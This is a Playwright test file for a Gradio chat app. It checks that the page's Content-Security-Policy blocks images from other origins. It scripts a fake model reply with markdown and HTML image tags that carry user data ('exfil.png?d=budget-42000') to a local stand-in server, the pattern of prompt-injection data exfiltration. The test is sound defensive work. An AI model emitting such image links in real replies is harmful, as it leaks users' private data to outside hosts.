"""The chat page loads images only from itself (issue 20, item 8): model output that names an image elsewhere
(`![x](http://elsewhere/exfil?d=...)`) makes no request leave the browser, links still work, and Gradio's own
page still renders, streams, uploads and stops under the Content-Security-Policy. In Debian's Chromium."""

from __future__ import annotations

import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.app_process import CHROMIUM, ROOT, AppProcess
from tests.fake_api import FakeAPI, Reply

ARTIFACTS = ROOT / "test-artifacts"

if not os.path.exists(CHROMIUM) and not os.environ.get("CI"):
    pytest.skip("Debian's chromium is not installed (apt-get install -y chromium)", allow_module_level=True)

from playwright.sync_api import Browser, expect  # noqa: E402

# Each violation the page reports, kept where the test can read it.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener(
    "securitypolicyviolation", (e) => window.__violations.push(e.blockedURI + " " + e.violatedDirective)
);
"""


class Elsewhere:
    """Another origin on loopback that records every request: what a prompt-injected image would reach."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        self.arrived = threading.Event()
        recorded = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802  (the name http.server calls)
                recorded.paths.append(self.path)
                recorded.arrived.set()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<p>elsewhere</p>")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


def test_the_apps_html_carries_the_policy(live_app: AppProcess) -> None:
    policy = requests.get(live_app.url, timeout=10).headers.get("content-security-policy", "")
    directives = {part.split()[0]: part.split()[1:] for part in policy.split(";") if part.strip()}
    assert directives.get("img-src") == ["'self'", "data:", "blob:"]
    assert directives.get("default-src") == ["'self'"] and "frame-ancestors" not in directives  # Spaces embed it
    assert "http:" not in policy and "https:" not in policy and "*" not in policy


@pytest.mark.parametrize(
    ("scheme", "viewport", "locale"), [("light", (1280, 900), "en-US"), ("dark", (390, 844), "zh-CN")]
)
def test_a_foreign_image_in_a_reply_makes_no_request_and_the_page_still_works(
    browser: Browser,
    live_app: AppProcess,
    app_api: FakeAPI,
    elsewhere: Elsewhere,
    tmp_path: Path,
    scheme: str,
    viewport: tuple[int, int],
    locale: str,
) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("Budget approved: 42,000.\n", encoding="utf-8")
    reply = (
        f"Noted. ![chart]({elsewhere.url}/exfil.png?d=budget-42000) <img src='{elsewhere.url}/raw.png'> "
        f"![again](//{elsewhere.url.split('//')[1]}/scheme-relative.png) "
        f"More in [the report]({elsewhere.url}/report). " + " ".join(f"w{i}" for i in range(30))
    )
    app_api.script(Reply(text=reply, delay=0.03))
    context = browser.new_context(
        viewport={"width": viewport[0], "height": viewport[1]}, color_scheme=scheme, locale=locale
    )
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(15_000)
    try:
        page.goto(live_app.url)
        page.locator('#chat-input input[data-testid="file-upload"]').set_input_files(str(notes))
        expect(page.locator("#chat-input").get_by_role("listitem", name="File thumbnail")).to_be_visible()
        box = page.locator("#chat-input textarea")
        box.fill("Read my notes")
        box.press("Enter")
        bot = page.locator('[data-testid="bot"]').first
        expect(bot).to_contain_text("w3")  # streaming
        expect(bot).to_contain_text("w29")
        assert "Budget approved: 42,000." in str(app_api.chat_requests()[0].body["messages"][-1]["content"])
        link = bot.get_by_role("link", name="the report")
        expect(link).to_have_attribute("href", f"{elsewhere.url}/report")
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / f"csp-{scheme}-{viewport[0]}.png"))
        assert elsewhere.paths == [], "the page fetched an image from elsewhere"
        violations = page.evaluate("window.__violations")
        assert violations and all(elsewhere.url.split("//")[1] in v and "img-src" in v for v in violations), violations
        with context.expect_page() as opened:  # links still lead elsewhere, in a new tab
            link.click()
        assert elsewhere.arrived.wait(10) and elsewhere.paths[0] == "/report"  # (the new tab then asks for its icon)
        opened.value.close()
    finally:
        context.close()
